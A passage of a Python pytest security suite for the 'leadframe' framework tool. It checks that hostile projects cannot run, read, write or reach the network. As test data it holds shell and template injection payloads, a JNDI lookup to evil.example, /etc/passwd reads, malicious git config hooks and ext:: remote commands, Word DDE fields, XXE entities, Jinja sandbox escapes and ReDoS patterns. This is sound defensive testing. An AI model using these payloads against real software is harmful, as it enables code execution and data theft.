"""The threats of docs/security.md, each of them tried: what a stranger sends neither runs, reads, writes nor asks."""

import ast
import csv
import http.server
import io
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

import answers
import audited
from leadframe import atomic
from leadframe.atomic import beside
from leadframe.cli import git as git_reader
from leadframe.cli import states
from leadframe.cli.commands import leadframe
from leadframe.cli.preview.answers import HEADERS
from leadframe.errors import CannotDo
from leadframe.exporters import opc
from leadframe.exporters.word import package, trial
from leadframe.reporters import NAMES as REPORTERS
from leadframe.schema_check import patterns
from projects import BOTH, NHS, ROOT, SECOND, copy, git
from reviewers import Reviewer
from test_preview import get, previewed, serving
from test_preview import send as send_bytes

HEADER = "framework/framework.yaml"
DOMAIN = "framework/domains/canu-ynghyd.yaml"
HOUSE_STYLE = "framework/house-style.yaml"
SECRET = "KanarienvogelGehtNiemandenAn"
PAYLOAD = (
    f"{SECRET} $(touch canary) `touch canary` ;touch canary; | touch canary && {{{{ 7*7 }}}} {{% include 'canary' %}}"
    " __import__('os').system('touch canary') ${jndi:ldap://evil.example} ${{ github.token }} <script>alert(1)</script>"
    " =HYPERLINK(1) ::error::x ../../canary %s %n file:///etc/passwd http://evil.example/x"
)
"""Words that do something in a shell, in a template, in Python, in a spreadsheet, on a page or in a log."""


def run(root: Path, *arguments: str | Path) -> Result:
    return CliRunner().invoke(leadframe, ["--project", str(root), *map(str, arguments)], standalone_mode=False)


def replaced(root: Path, file: str, old: str, new: str) -> None:
    text = (root / file).read_text(encoding="utf-8")
    assert old in text
    (root / file).write_text(text.replace(old, new, 1), encoding="utf-8")


def hostile(root: Path, target: Path) -> Path:
    """A copy of a project with the payload in its title, in a title and in a text, and with modules in its folder that
    are called like those that Leadframe imports.
    """
    project = copy(root, target)
    quoted = "'" + PAYLOAD.replace("'", "''") + "'"
    domain = sorted((project / "framework/domains").iterdir())[0]
    for file, pattern in ((project / HEADER, "^title: .*$"), (domain, "^title: .*$"), (domain, "^        text: .*$")):
        text = file.read_text(encoding="utf-8")
        line = re.search(pattern, text, re.MULTILINE)
        if line and not line[0].endswith(">-"):
            file.write_text(text.replace(line[0], line[0].partition(": ")[0] + f": {quoted}", 1), encoding="utf-8")
    for name in ("click", "yaml", "lxml", "openpyxl", "sitecustomize", "usercustomize", "leadframe"):
        (project / f"{name}.py").write_text("open('canary', 'w').close()\n", encoding="ascii")
    return project


@pytest.fixture
def second(tmp_path: Path) -> Path:
    return copy(SECOND, tmp_path / "project")


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder that no command has any business in."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "canary").write_text(f"# What changed in this framework\n\n{SECRET}\n", encoding="utf-8")
    return folder


def kept(folder: Path) -> dict[str, bytes]:
    """Every file of a folder that was there from the start, or has come."""
    return {path.name: path.read_bytes() for path in folder.rglob("*") if path.is_file()}


# Content of a pull request


ALL = ["csv", "json", "xlsx", "markdown", "docx", "html", "case", "skos", "moodle", "crosswalks", "questionnaire"]


@pytest.mark.parametrize(
    ("arguments", "started"),
    [
        pytest.param(["check", "--fail-on", "never"], [], id="check"),
        pytest.param(["check", "--format", "github", "--fail-on", "never"], [], id="check for a server"),
        pytest.param(["export", *ALL, "--no-page-numbers", "-o", "OUT"], [], id="export"),
        pytest.param(["diff", "HEAD", "--format", "html", "-o", "OUT/changes.html"], ["git"], id="diff"),
        pytest.param(["review", "HEAD", "-o", "OUT/review.md"], ["git"], id="review"),
        pytest.param(["format", "--check"], [], id="format"),
    ],
)
@pytest.mark.parametrize("root", BOTH)
def test_a_command_does_its_work_and_nothing_else(
    root: Path, arguments: list[str], started: list[str], tmp_path: Path
) -> None:
    project, out, temporary = hostile(root, tmp_path / "project"), tmp_path / "out", tmp_path / "temporary"
    out.mkdir()
    temporary.mkdir()
    git(project, "init", "-q")
    git(project, "add", ".")
    git(project, "commit", "-qm", "one")
    replaced(
        project, sorted((project / "framework/domains").iterdir())[0].relative_to(project).as_posix(), "id: ", "id:  "
    )
    words = [word.replace("OUT", str(out)) for word in arguments]
    memory = tmp_path / "home/.cache/leadframe"
    memory.mkdir(mode=0o700, parents=True)
    home = {"HOME": str(tmp_path / "home"), "TMPDIR": str(temporary)}
    done = audited.run([project, out, temporary, memory], project, *words, secret=SECRET, **home)
    assert done.status in (0, 1), done.errors
    assert [one for one in done.did if one[:2] != ["starts", "git"]] == []
    assert sorted({one[1] for one in done.of("starts")}) == started
    assert list(tmp_path.rglob("canary")) == []
    assert (
        SECRET in done.output
        or SECRET
        in "".join(path.read_text(encoding="utf-8", errors="replace") for path in out.rglob("*") if path.is_file())
        or arguments[0] in ("check", "format", "diff", "review")
    )


@pytest.mark.parametrize(
    ("act", "told"),
    [
        pytest.param("open('/etc/hostname').close()", ["reads", "/etc/hostname"], id="reading"),
        pytest.param("open('/tmp/leadframe-spy', 'w').close()", ["writes", "/tmp/leadframe-spy"], id="writing"),
        pytest.param("os.remove('/tmp/leadframe-spy')", ["changes", "os.remove", "/tmp/leadframe-spy"], id="deleting"),
        pytest.param("import subprocess; subprocess.run('true', shell=True)", ["starts", "/bin/sh", "-c"], id="shell"),
        pytest.param("os.system('true')", ["starts", "os.system"], id="os.system"),
        pytest.param("exec('x = %r' % os.environ['SPY_SECRET'])", ["compiles", "<string>"], id="exec"),
        pytest.param("import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('127.0.0.1', 9))",
                     ["asks", "socket.connect"], id="network"),
    ],
)  # fmt: skip
def test_the_spy_sees_what_it_is_there_to_see(
    act: str, told: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audited, "SPY", audited.SPY.replace("from leadframe.cli import main", f"def main(): {act}"))
    inside = tmp_path / "inside"
    inside.mkdir()
    assert told in [one[: len(told)] for one in audited.run([inside], inside, "check", secret=SECRET).did]


def test_the_program_imports_nothing_from_the_folder_where_it_runs(tmp_path: Path) -> None:
    """As pip writes it: a file of its own, so that Python does not look into the folder where somebody stands."""
    project = hostile(SECOND, tmp_path / "project")
    program = tmp_path / "bin/leadframe"
    program.parent.mkdir()
    program.write_text("import sys\nfrom leadframe.cli import main\nsys.exit(main())\n", encoding="ascii")
    environment = {**os.environ, "PYTHONPATH": str(ROOT / "tools")}
    command = [sys.executable, str(program), "check", "--fail-on", "never"]
    done = subprocess.run(command, cwd=project, env=environment, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert not (project / "canary").exists()


def journal(root: Path, change: dict[str, tuple[str, str]], folders: list[str]) -> None:
    step = {"change": change, "drop": [*change], "folders": folders}
    (root / atomic.JOURNAL).write_text(f"\n{json.dumps(step)}\n", encoding="utf-8")


@pytest.mark.parametrize(
    ("name", "was", "new"),
    [
        pytest.param("../outside/canary", "there", "", id="deletes a file outside"),
        pytest.param("OUTSIDE/canary", "there", "", id="deletes a file by its full path"),
        pytest.param("framework/../../outside/canary", "there", "", id="on a way round"),
        pytest.param(".git/config", "here", "", id="deletes what is hidden"),
        pytest.param(".GIT/config", "here", "", id="hidden where capitals do not count"),
        pytest.param("link/canary", "there", "", id="behind a link"),
        pytest.param("../outside/new", "", "mine", id="writes outside"),
        pytest.param("OUTSIDE/canary", "there", "mine", id="writes by the full path"),
        pytest.param(".git/hooks/post-checkout", "", "mine", id="makes a hook of git"),
    ],
)
def test_a_journal_from_a_stranger_moves_and_deletes_nothing(
    name: str, was: str, new: str, second: Path, outside: Path
) -> None:
    (second / ".git/hooks").mkdir(parents=True)
    (second / ".git/config").write_text("", encoding="utf-8")
    (second / "link").symlink_to(outside, target_is_directory=True)
    name = name.replace("OUTSIDE", str(outside))
    contents = {"": None, "there": (outside / "canary").read_bytes(), "here": b"", "mine": b"mine"}
    if new:
        beside.part_of(second, name).write_bytes(b"mine")
    journal(second, {name: (beside.mark(contents[was]), beside.mark(contents[new]))}, [])
    before, there = kept(outside), kept(second)
    done = run(second, "check")
    assert isinstance(done.exception, CannotDo)
    assert "which is no place for it; delete it" in str(done.exception)
    assert (kept(outside), kept(second)) == (before, there)


def test_a_journal_from_a_stranger_deletes_no_folder_elsewhere(second: Path, outside: Path) -> None:
    (outside / "empty").mkdir()
    journal(second, {}, ["../outside/empty"])
    assert isinstance(run(second, "check").exception, CannotDo)
    assert (outside / "empty").is_dir()


@pytest.mark.parametrize("written", ["[]", "{", '{"change": 1}', "[" * 50_000, '{"change": {"a": []}, "drop": []}'])
def test_a_journal_that_is_none_changes_nothing(written: str, second: Path) -> None:
    """So it looks if a process was killed before it had noted anything."""
    before = kept(second)
    (second / atomic.JOURNAL).write_text(written, encoding="utf-8")
    assert run(second, "check").exit_code == 0
    assert kept(second) == before


WRITING = [
    pytest.param("drafts", "", ["export", "csv"], id="the folder of drafts"),
    pytest.param("drafts/csv", "", ["export", "csv"], id="the folder of a format"),
    pytest.param("drafts/csv/descriptors.csv", "canary", ["export", "csv"], id="a file"),
    pytest.param("drafts/csv/DRAFT.txt", "new", ["export", "csv"], id="a file that is not there yet"),
    pytest.param("out/csv", "", ["export", "csv", "-o", "ROOT/out"], id="in a folder that is named"),
    pytest.param("report.txt", "canary", ["check", "-o", "ROOT/report.txt"], id="a report"),
    pytest.param("exports/markdown", "", ["release"], id="the exports of a release"),
    pytest.param("framework/releases", "", ["release"], id="the folder of releases"),
    pytest.param("exports", "", ["release"], id="all exports"),
]


@pytest.mark.parametrize(("link", "target", "arguments"), WRITING)
def test_no_link_makes_a_command_write_outside(
    link: str, target: str, arguments: list[str], second: Path, outside: Path
) -> None:
    (second / link).parent.mkdir(parents=True, exist_ok=True)
    (second / link).symlink_to(outside / target if target else outside)
    before = kept(outside)
    done = run(second, *(word.replace("ROOT", str(second)) for word in arguments))
    assert isinstance(done.exception, CannotDo), done.output
    assert "link" in str(done.exception)
    assert kept(outside) == before


def test_no_link_in_place_of_a_file_that_waits_is_followed(second: Path, outside: Path) -> None:
    (second / "framework/releases").mkdir()
    for name in (".framework.yaml.leadframe-part", "releases/.0.3.0.json.leadframe-part"):
        (second / "framework" / name).symlink_to(outside / "canary")
    (second / ".leadframe-journal.leadframe-part").symlink_to(outside / "canary")
    before = kept(outside)
    assert run(second, "release", "--date", "2026-12-01").return_value == 0
    assert kept(outside) == before


def test_what_a_program_writes_to_its_own_output_goes_through_the_links_of_the_system(second: Path) -> None:
    command = [sys.executable, "-m", "leadframe", "--project", str(second), "check", "--format", "json"]
    environment = {**os.environ, "PYTHONPATH": str(ROOT / "tools")}
    done = subprocess.run([*command, "-o", "/dev/stdout"], env=environment, capture_output=True, check=False)
    assert json.loads(done.stdout)["findings"] == []


def link_of_release_log(root: Path, outside: Path) -> list[str]:
    (root / "framework/releases").mkdir()
    (root / "framework/releases/CHANGELOG.md").symlink_to(outside / "canary")
    return ["release", "--date", "2026-12-01"]


def link_of_a_snapshot(root: Path, outside: Path) -> list[str]:
    (root / "framework/releases").mkdir()
    (root / "framework/releases/0.1.0.json").symlink_to(outside / "canary")
    return ["diff", "0.1.0"]


def link_of_a_schema(root: Path, outside: Path) -> list[str]:
    (root / "schema").mkdir()
    (root / "schema/own.domain.schema.json").symlink_to(outside / "canary")
    replaced(root, HEADER, 'schema: "1"', 'schema: "1"\nprofile: own')
    return ["check"]


def link_of_the_schemas(root: Path, outside: Path) -> list[str]:
    shutil.copy(NHS / "schema/nhs-2011.domain.schema.json", outside)
    (root / "schema").symlink_to(outside)
    replaced(root, HEADER, 'schema: "1"', 'schema: "1"\nprofile: nhs-2011')
    return ["check"]


DOCUMENTS = "documents:\n  - id: full\n    template: {}\n    contents: [cover, framework, rights]\n"


def link_of_a_template(root: Path, outside: Path) -> list[str]:
    (outside / "secret.docx").write_bytes(package.template())
    (root / "framework/mine.docx").symlink_to(outside / "secret.docx")
    (root / "framework/documents.yaml").write_text(DOCUMENTS.format("mine.docx"), encoding="utf-8")
    return ["export", "docx", "--no-page-numbers"]


def way_to_a_template(root: Path, outside: Path) -> list[str]:
    (outside / "secret.docx").write_bytes(package.template())
    assert run(root, "release", "--date", "2026-12-01").return_value == 0
    (root / "framework/documents.yaml").write_text(DOCUMENTS.format("a/../../../outside/secret.docx"), encoding="utf-8")
    return ["export", "docx", "--no-page-numbers", "--version", "0.3.0"]


def link_of_a_picture(root: Path, outside: Path) -> list[str]:
    shutil.copy(next((ROOT / "docs").rglob("*.png")), outside / "secret.png")
    (root / "framework/themes").mkdir()
    (root / "framework/themes/own.png").symlink_to(outside / "secret.png")
    own = "logo: {file: own.png, alt: Arwydd}\n"
    (root / "framework/themes/own.yaml").write_text(own, encoding="utf-8")
    return ["check"]


def link_of_content(root: Path, outside: Path) -> list[str]:
    (root / DOMAIN).unlink()
    (root / DOMAIN).symlink_to(outside / "canary")
    return ["check"]


def link_of_the_keys_of_the_repository(root: Path, outside: Path) -> list[str]:
    (root / ".git").mkdir()
    (root / ".git/config").write_text(f"extraheader: {SECRET}\n", encoding="utf-8")
    (root / DOMAIN).unlink()
    (root / DOMAIN).symlink_to("../../.git/config")
    return ["check"]


def folder_of_content(root: Path, outside: Path) -> list[str]:
    (root / "framework/more").symlink_to(outside)
    return ["check"]


@pytest.mark.parametrize(
    "prepare",
    [
        link_of_content, folder_of_content, link_of_the_keys_of_the_repository, link_of_a_snapshot, link_of_release_log,
        link_of_a_schema, link_of_the_schemas, link_of_a_template, way_to_a_template, link_of_a_picture,
    ],
    ids=lambda prepare: prepare.__name__.replace("_", " "),
)  # fmt: skip
def test_no_link_makes_a_command_read_outside(
    prepare: Callable[[Path, Path], list[str]], second: Path, outside: Path
) -> None:
    arguments = prepare(second, outside)
    done = run(second, *arguments)
    said = f"{done.output}{done.exception}"
    assert done.return_value == 1 or isinstance(done.exception, CannotDo), said
    assert SECRET not in said
    assert re.search("link to|outside|no file|no PNG|cannot be read", said), said
    assert not [
        path for path in second.rglob("*") if SECRET.encode() in (kept_bytes(path) or b"") and ".git" not in path.parts
    ]


def kept_bytes(path: Path) -> bytes | None:
    return path.read_bytes() if path.is_file() and not path.is_symlink() else None


# A repository that is not what it seems


@pytest.fixture
def repository(second: Path) -> Path:
    """The small framework with two commits."""
    git(second, "init", "-q", "-b", "main")
    git(second, "add", ".")
    git(second, "commit", "-qm", "one")
    replaced(second, DOMAIN, "Clywed y rhannau eraill", "Gwrando ar y rhannau eraill")
    git(second, "commit", "-qam", "two")
    return second


def test_git_starts_no_program_that_the_repository_names(repository: Path, tmp_path: Path) -> None:
    program = tmp_path / "program"
    program.write_text(f"#!/bin/sh\ntouch {tmp_path}/canary\n", encoding="ascii")
    program.chmod(0o755)
    names = (
        "core.fsmonitor core.sshCommand core.pager core.editor core.askPass gpg.program gpg.ssh.program diff.external"
    )
    for name in (*names.split(), "credential.helper", "pager.log", "pager.ls-tree", "diff.x.textconv", "alias.log"):
        git(repository, "config", name, str(program))
    for name in ("log.showSignature", "protocol.ext.allow", "pager.cat-file"):
        git(repository, "config", name, "always" if "protocol" in name else "true")
    (repository / ".gitattributes").write_text("* diff=x filter=x\n", encoding="ascii")
    git(repository, "config", "filter.x.smudge", str(program))
    git(repository, "config", "core.hooksPath", str(program.parent))
    before = git_reader.files(repository, "HEAD~1", "framework")
    assert DOMAIN in before
    assert len(git_reader.commits(repository, "framework", 5)) == 2
    assert run(repository, "diff", "HEAD~1").return_value == 0
    assert run(repository, "review", "HEAD~1").return_value == 0
    assert not (tmp_path / "canary").exists()


def test_git_fetches_nothing_and_says_how_to(repository: Path, tmp_path: Path) -> None:
    """A clone that has not got the older files would ask its remote, by a command that it names itself."""
    git(repository, "config", "uploadpack.allowFilter", "true")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--filter=blob:none", repository.as_uri(), str(clone))
    git(clone, "config", "protocol.ext.allow", "always")
    git(clone, "config", "remote.origin.url", f"ext::sh -c touch% {tmp_path}/canary")
    with pytest.raises(CannotDo, match="this clone has not got all files of that revision; get them: git fetch"):
        git_reader.files(clone, "HEAD~1", "framework")
    assert not (tmp_path / "canary").exists()


@pytest.mark.parametrize(
    "revision",
    ["--output=canary", "--upload-pack=touch canary", "-", "--help", "HEAD --output=canary", "\nHEAD"],
)
def test_a_revision_is_never_an_option(revision: str, repository: Path) -> None:
    with pytest.raises(CannotDo, match="git has no revision"):
        states.state(repository, revision)
    assert not list(repository.rglob("*canary*"))


def test_a_file_of_a_revision_is_no_larger_than_one_on_the_disk(repository: Path) -> None:
    (repository / "framework/picture.png").write_bytes(b"a" * 9_000_000)
    git(repository, "add", ".")
    git(repository, "commit", "-qm", "other files count for nothing")
    assert DOMAIN in git_reader.files(repository, "HEAD", "framework")
    (repository / "framework/large.yaml").write_bytes(b"a" * 9_000_000)
    git(repository, "add", ".")
    git(repository, "commit", "-qm", "three")
    with pytest.raises(CannotDo, match=r"framework/large\.yaml is too large in HEAD \(the limit is 8 MB\)"):
        git_reader.files(repository, "HEAD", "framework")


def test_names_of_files_begin_no_command_and_move_no_cursor(second: Path) -> None:
    """In a revision and on the disk; where a log is read as commands, they stand at the beginning of a line."""
    for name in ("\x1b[2J\x07.yaml", "::error::x.yaml", "a\n::error::y.yaml", "--help.yaml", "<b>&|`#1`@all.yaml"):
        (second / "framework/domains" / name).write_text("a: 1\n", encoding="utf-8")
    git(second, "init", "-q")
    git(second, "add", ".")
    git(second, "commit", "-qm", "one")
    for name in REPORTERS:
        said = run(second, "check", "--format", name).output
        assert "\x1b" not in said
        lines = [line for line in said.splitlines() if line.lstrip().startswith("::")]
        assert [line for line in lines if not line.startswith(("::error file=", "::warning file=", "::notice"))] == []
        assert name in ("github", "sarif", "json", "junit") or "::error::y" not in [line[:10] for line in lines]
    assert "\x1b" not in str(run(second, "diff", "HEAD").output)


@pytest.mark.parametrize("sign", ["\x1b]0;owned\x07", "\n::error::owned", "\r::error::owned", "\u202e", "\x9b2J"])
def test_what_cannot_be_done_is_told_in_plain_signs(sign: str, second: Path, tmp_path: Path) -> None:
    """The sentence that the program prints at its end can have words of a file in it, or its name."""
    path = tmp_path / f"a{sign}b.docx"
    path.write_bytes(b"no Word file")
    environment = {**os.environ, "PYTHONPATH": str(ROOT / "tools"), "PYTHONIOENCODING": "utf-8"}
    command = [sys.executable, "-m", "leadframe", "--project", str(second), "import", str(path)]
    done = subprocess.run(command, env=environment, capture_output=True, encoding="utf-8", check=False)
    assert done.returncode == 2
    assert {line[:11] for line in done.stderr.splitlines()} == {"leadframe: "}
    assert not re.search("[\x1b\x07\x9b\u202e\r]", done.stderr)


# What a pull request can bring besides content: rules, schemas, acceptances


@pytest.mark.parametrize(
    ("pattern", "text"),
    [
        pytest.param("(a+)+!", "a" * 60, id="a repeated repetition"),
        pytest.param("(a|aa)+!", "a" * 60, id="a repeated choice"),
        pytest.param("(a?){40}!", "a" * 60, id="a repeated option"),
        pytest.param("a?" * 40 + "a" * 40 + "!", "a" * 60, id="options in a row"),
        pytest.param("(a|aa)" * 40 + "!", "a" * 60, id="choices in a row"),
        pytest.param("a{0,60}" * 12 + "!", "a" * 60, id="bounded repetitions in a row"),
        pytest.param("(?#[)(a+)+!(?#])", "a" * 60, id="hidden in comments"),
        pytest.param("(?x)(a+ # [\n)+! # ]", "a" * 60, id="hidden in a long form"),
        pytest.param("[\\]](a+)+![\\[]", "]" + "a" * 60, id="hidden behind brackets"),
        pytest.param("a*" * 20 + "!", "a" * 60, id="many repetitions"),
    ],
)
def test_a_rule_of_a_team_is_refused_if_it_can_take_for_ever(pattern: str, text: str, second: Path) -> None:
    """Each of these would take longer than anybody waits; a process of its own tells that it does."""
    rule = f"own_rules:\n  - id: mine\n    message: No.\n    pattern: {json.dumps(pattern)}\n"
    if "\n" not in pattern:
        (second / HOUSE_STYLE).write_text(f"rules: {{}}\n{rule}", encoding="utf-8")
        replaced(second, DOMAIN, "Clywed y rhannau eraill", text)
        begun = time.process_time()
        assert "bad-pattern" in run(second, "check", "--format", "concise").output
        assert time.process_time() - begun < 10
    assert patterns.trouble(pattern)
    code = f"import re; re.search({pattern!r}, {text!r})"
    with pytest.raises(subprocess.TimeoutExpired):
        subprocess.run([sys.executable, "-c", code], timeout=1, check=False)


@pytest.mark.parametrize(
    "pattern",
    [
        r"\b(?:utilis|leverag|synerg)\w*\b",
        r"^Ensure (that )?",
        r"colou?r|favou?r|honou?r|labou?r|neighbou?r|behaviou?r|flavou?r|humou?r|rumou?r|tumou?r|vapou?r|odou?r|armou?r"
        r"|harbou?r|parlou?r|vigou?r|splendou?r|clamou?r|ardou?r|rancou?r",
        r"(?i)\bstake-?holders?\b",
        r"[\]](a+)[\[]",
        "|".join(["word"] * 300),
    ],
)
def test_what_teams_write_is_allowed(pattern: str) -> None:
    assert patterns.trouble(pattern) is None


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """A server, and the addresses that it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'{"type": "object"}')

        def log_message(self, format: str, *args: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as made:
        thread = threading.Thread(target=made.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        try:
            yield f"http://127.0.0.1:{made.server_port}", asked
        finally:
            made.shutdown()
            thread.join()


@pytest.mark.parametrize("fault", [False, True], ids=["sound", "with a fault that has to be explained"])
@pytest.mark.parametrize(
    "schema",
    [
        pytest.param({"$ref": "SERVER/x.json"}, id="$ref to a server"),
        pytest.param({"$dynamicRef": "SERVER/x.json#a"}, id="$dynamicRef to a server"),
        pytest.param({"$schema": "SERVER/x.json"}, id="$schema on a server"),
        pytest.param({"$ref": "file:///etc/hostname"}, id="$ref to a file"),
        pytest.param({"$ref": "#"}, id="a circle"),
        pytest.param({"properties": {"title": {"pattern": "^(a|a)*$(?!\\n)"}}}, id="a pattern for a text"),
        pytest.param({"patternProperties": {"^([a-z]+)+!": {}}}, id="a pattern for keys"),
    ],
)
def test_a_schema_of_a_project_asks_nobody_and_comes_to_an_end(
    schema: dict[str, Any], fault: bool, second: Path
) -> None:
    with listening() as (server, asked):
        name = "https://example.org/leadframe/schema/1/own.domain.schema.json"
        written = json.dumps({"$id": name, **schema}).replace("SERVER", server)
        (second / "schema").mkdir()
        (second / "schema/own.domain.schema.json").write_text(written, encoding="utf-8")
        replaced(second, HEADER, 'schema: "1"', 'schema: "1"\nprofile: own')
        if fault:
            replaced(second, DOMAIN, "title: Canu ynghyd", f"titel: Canu ynghyd\n{'a' * 40}: 1")
        else:
            replaced(second, DOMAIN, "title: Canu ynghyd", f"title: {'a' * 4000}b")
        command = [sys.executable, "-m", "leadframe", "--project", str(second), "check"]
        environment = {**os.environ, "PYTHONPATH": str(ROOT / "tools")}
        done = subprocess.run(command, env=environment, capture_output=True, text=True, check=False, timeout=60)
        assert done.returncode in (0, 1, 2), done.stderr
        assert "Traceback" not in done.stderr
        assert asked == []


@pytest.mark.parametrize(
    "written",
    [
        pytest.param("rules:\n  dangling-ref:\n    run: false\n", id="a rule that may not be turned off"),
        pytest.param("rules:\n  dangling-ref:\n    severity: info\n", id="a rule that may not be softened"),
        pytest.param(
            'accepted: [{rule: dangling-ref, at: canu-ynghyd, fingerprint: "000000000000", reason: Mine.}]\n',
            id="an error that may not be accepted",
        ),
    ],
)
def test_a_house_style_cannot_let_a_broken_framework_pass(written: str, second: Path) -> None:
    (second / HOUSE_STYLE).write_text(written, encoding="utf-8")
    replaced(second, HEADER, "domain: canu-ynghyd", "domain: nid-yw-yma")
    done = run(second, "check", "--format", "concise")
    assert done.return_value == 1
    assert "nid-yw-yma" in done.output


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "//evil.example", "https://a b"]
)
def test_an_address_of_another_kind_is_refused(address: str, second: Path) -> None:
    replaced(second, HEADER, "licence: https://creativecommons.org/licenses/by/4.0/", f'licence: "{address}"')
    assert run(second, "check").return_value == 1


@pytest.mark.parametrize("key", ["../../outside/new", "/tmp/leadframe-new", "a/b", "..", "CON:", "x\x00y"], ids=repr)
def test_a_snapshot_cannot_name_files(key: str, second: Path, outside: Path, tmp_path: Path) -> None:
    """What a forged snapshot calls its parts never becomes the name of a file."""
    assert run(second, "release", "--date", "2026-12-01").return_value == 0
    frozen = json.loads((second / "framework/releases/0.3.0.json").read_bytes())
    domain = frozen["domains"].pop("canu-ynghyd")
    frozen["domains"][key] = {**domain, "id": key}
    for entry in frozen["framework"]["contents"]:
        if entry.get("domain") == "canu-ynghyd":
            entry["domain"] = key
    (second / "framework/releases/0.3.0.json").write_text(json.dumps(frozen), encoding="utf-8")
    before = kept(outside)
    done = run(second, "export", "csv", "json", "html", "markdown", "--version", "0.3.0", "-o", tmp_path / "out")
    assert isinstance(done.exception, CannotDo)
    assert "is not a release 0.3.0 in this format" in str(done.exception)
    assert not (tmp_path / "out").exists()
    assert kept(outside) == before


# Templates, workbooks and Word files


def with_field(*runs: str) -> bytes:
    """The usual template with a field whose instruction is spread over runs."""
    inside = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    parts = opc.unpack(package.template())
    text = parts["word/document.xml"].decode()
    field = f"{{{{ title }}}}</w:t></w:r>{mark.format('begin')}{inside}{mark.format('end')}<w:r><w:t>"
    parts["word/document.xml"] = text.replace("{{ title }}</w:t></w:r>", f"{field}</w:t></w:r>", 1).encode()
    return opc.pack(parts)


def with_part(name: str, content: bytes, content_type: str = "", relation: str = "") -> bytes:
    parts = opc.unpack(package.template())
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode()
    if content_type and f'"/{name}"'.encode() not in parts[opc.TYPES]:
        parts[opc.TYPES] = parts[opc.TYPES].replace(b"</Types>", override)
    if relation and relation.encode() not in parts["_rels/.rels"]:
        added = f'<Relationship Id="rAdded" Type="{relation}" Target="{name}"/></Relationships>'
        parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"</Relationships>", added.encode())
    return opc.pack({**parts, name: content})


FOREIGN = (
    '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    ' xmlns:v="urn:schemas-microsoft-com:vml">'
    "<w:p><w:r>{}</w:r></w:p></w:hdr>"
)
XML = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"


@pytest.mark.parametrize(
    ("template", "says"),
    [
        pytest.param(with_field('INCLUDETEXT "/etc/passwd"'), "(INCLUDETEXT)", id="a field"),
        pytest.param(with_field("INCLU", 'DETEXT "/etc/passwd"'), "(INCLUDETEXT)", id="a field in two pieces"),
        pytest.param(with_field(" ", "dde", "auto c:\\\\cmd"), "(ddeauto)", id="small letters"),
        pytest.param(with_field('IF 1 = 1 "x"'), "(IF)", id="a field that can hold another"),
        pytest.param(with_field("{{ title }}"), "({{)", id="a field that content fills"),
        pytest.param(
            with_part("odd/x.bin", FOREIGN.format("<w:instrText>DDE x</w:instrText>").encode(), XML),
            "(DDE)",
            id="in a part with another ending",
        ),
        pytest.param(
            with_part("word/x.xml", FOREIGN.format('<v:imagedata src="http://evil.example/x.png"/>').encode()),
            "leads to something outside it (http://evil.example",
            id="a picture from a server",
        ),
        pytest.param(
            with_part("word/media/x.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/x"/></svg>'),
            "leads to something outside it (file:///etc/x",
            id="a drawing that holds a file",
        ),
        pytest.param(
            with_part("odd/x.bin", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
            "has a document type of its own",
            id="an entity in a part with another ending",
        ),
        pytest.param(with_part("word/vbaProject.bin", b"x"), "has macros", id="macros"),
    ],
)  # fmt: skip
def test_a_template_that_reaches_out_is_refused(template: bytes, says: str) -> None:
    with pytest.raises(CannotDo, match=re.escape(says)):
        trial.tried(template)


PACKAGE = "http://schemas.openxmlformats.org/package/2006"
CORE_TYPE = "application/vnd.openxmlformats-package.core-properties+xml"
CORE_RELATION = f"{PACKAGE}/relationships/metadata/core-properties"
CORE = (
    f'<cp:coreProperties xmlns:cp="{PACKAGE}/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
    "<dc:title>{}</dc:title></cp:coreProperties>"
)


@pytest.mark.parametrize(
    "expression",
    [
        "{{ self._TemplateReference__context }}", "{{ ''.__class__ }}", "{{ ''['__class__'] }}",
        "{{ ''|attr('__class__') }}", "{{ title.format(title) }}", "{{ words.__init__ }}", "{{ words.items() }}",
        "{{ parts[0].__class__ }}", "{{ '%s'|format(title) }}", "{{ lipsum }}", "{{ namespace() }}",
        "{% import 'x' as y %}", "{% include '/etc/passwd' %}", "{% extends 'x' %}", "{% macro a() %}{% endmacro %}",
        "{% filter upper %}x{% endfilter %}", "{{ [1] * 9 }}", "{{ 9 ** 9 ** 9 }}", "{% call x() %}{% endcall %}",
        "{% set x = 1 %}", "{{ joiner }}", "{{ cycler }}", "{{ dict }}", "{{ range }}",
        "{% raw %}{{ x }}{% endraw %}{{ x }}",
    ],
)  # fmt: skip
def test_a_template_does_not_get_out_of_its_sandbox(expression: str) -> None:
    parts = opc.unpack(package.template())
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"{{ title }}", expression.encode(), 1)
    assert trial.tried(opc.pack(parts)).faults
    properties = CORE.format(expression.replace("<", "&lt;")).encode()
    assert trial.tried(with_part("docProps/core.xml", properties, CORE_TYPE, CORE_RELATION)).faults, "in the properties"


def test_a_drawing_with_scripts_is_no_picture(second: Path) -> None:
